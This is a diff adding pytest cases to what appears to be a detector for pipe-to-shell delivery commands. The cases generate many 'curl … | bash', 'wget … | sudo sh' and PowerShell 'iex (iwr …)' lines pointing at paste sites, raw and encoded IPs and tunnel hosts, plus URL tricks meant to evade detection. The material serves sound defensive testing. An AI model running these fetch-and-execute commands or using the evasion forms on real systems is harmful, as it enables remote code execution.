@@ -207,6 +207,86 @@ def test_a_flood_of_one_shape_is_replayed_and_every_url_still_graded(
     assert len(undeclared) == 20 and undeclared[-1].more == 200 - len(ODD_HOSTS) - 20
 
 
+def _query_url(k: int) -> str:
+    """The k-th URL of a flood whose URLs have query strings, ports and escapes in every place."""
+    forms = [
+        "https://x{k}.example/a?v={k}",
+        "https://x{k}.example?v={k}&",  # `&` ends the slot: the URL is not one slot
+        "https://x{k}.example:{p}/i.sh?a=b+c%20d",
+        "http://x{k}.example/?",
+        "https://x{k}.example/a=b?c=d=e",
+        "https://x{k}.example:{p}",
+        "https://x{k}.example/a?x=iwr%2Biex",
+    ]
+    return forms[k % len(forms)].format(k=k, p=1000 + k)
+
+
+QUERY_ODD_HOSTS = {
+    30: "https://pastebin.com/raw/abc?x=1",
+    31: "http://192.0.2.7:8080/x?a=b",
+    40: "https://vendor.example.dev:443/install.sh?v=2",
+    41: "https://astral.sh/uv/install.sh?x=%20",
+    50: "https://openclaw-cli.com:8443/i.sh",
+    51: "https://x1.trycloudflare.com/?a=1",
+    60: "http://2130706433:80/a?b",
+    61: "https://raw.githubusercontent.com/acme/tool/main/i.sh?token=a+b",
+}
+
+
+@pytest.mark.parametrize(
+    ("scan", "template"),
+    [
+        (_shell, "curl -fsSL {u} | bash"),
+        (_shell, 'curl -s "{u}" | sh'),
+        (_shell, "wget -qO- {u} | sudo -E sh -s --"),
+        (_ps, "iex (iwr {u})"),
+        (_ps, "iwr {u} | iex"),
+    ],
+)
+def test_floods_of_urls_with_queries_and_ports_are_replayed_and_every_url_still_graded(
+    scan: Callable[[str, HostPolicy], list[Detection]], template: str
+) -> None:
+    policy = POLICIES[1]
+    urls = {k: QUERY_ODD_HOSTS.get(k, _query_url(k)) for k in range(200)}
+    src = "".join(template.format(u=urls[k]) + "\n" for k in range(200))
+    with _counting_replays() as replayed:
+        found = scan(src, policy)
+    assert replayed[0] > 100
+    assert found == _in_full(lambda: scan(src, policy))
+    assert [d.line for d in found if d.rule_id == DELIVERY] == [31, 32, 51, 52]
+    assert [d.line for d in found if d.rule_id == DECLARED] == [41, 42, 61, 62]
+
+
+@pytest.mark.parametrize(
+    ("scan", "template"),
+    [
+        (_shell, "curl -fsSL {u} | bash"),
+        (_shell, "curl -fsSL {u}.sh | bash"),
+        (_ps, "iex (iwr {u})"),
+        (_ps, "iwr {u}.ps1 | iex"),
+    ],
+)
+@pytest.mark.parametrize(
+    "tail",
+    # what a slot stops at, and what only the URL's own parser reads (a user, a fragment, a port
+    # that is not one, an array of two URLs, a variable that moves the host to a paste site)
+    ["?a=1&b=2", "#frag", "@pastebin.com/raw/a", ",https://pastebin.com/raw/a", ":x", "$X", "~u", "!"],
+)
+def test_a_url_that_is_only_partly_a_slot_gives_what_the_full_analysis_gives(
+    scan: Callable[[str, HostPolicy], list[Detection]], template: str, tail: str
+) -> None:
+    # after the host and after the path
+    odd = {
+        k: f"https://x{k}.example{tail}/a" if k % 4 == 1 else f"https://x{k}.example/a{tail}"
+        for k in range(25, 60, 2)
+    }
+    odd[24] = f"https://x24.example{tail.replace('X', 'Y')}/a"  # $Y is never set: read as written
+    odd[45] = "https://pastebin.com/raw/a"
+    src = "X=.pastebin.com\n$X = '.pastebin.com'\n" + _flood(template, 60, odd)
+    for policy in POLICIES:
+        assert scan(src, policy) == _in_full(lambda p=policy: scan(src, p))  # type: ignore[misc]
+
+
 @pytest.mark.parametrize(
     ("scan", "src"),
     [
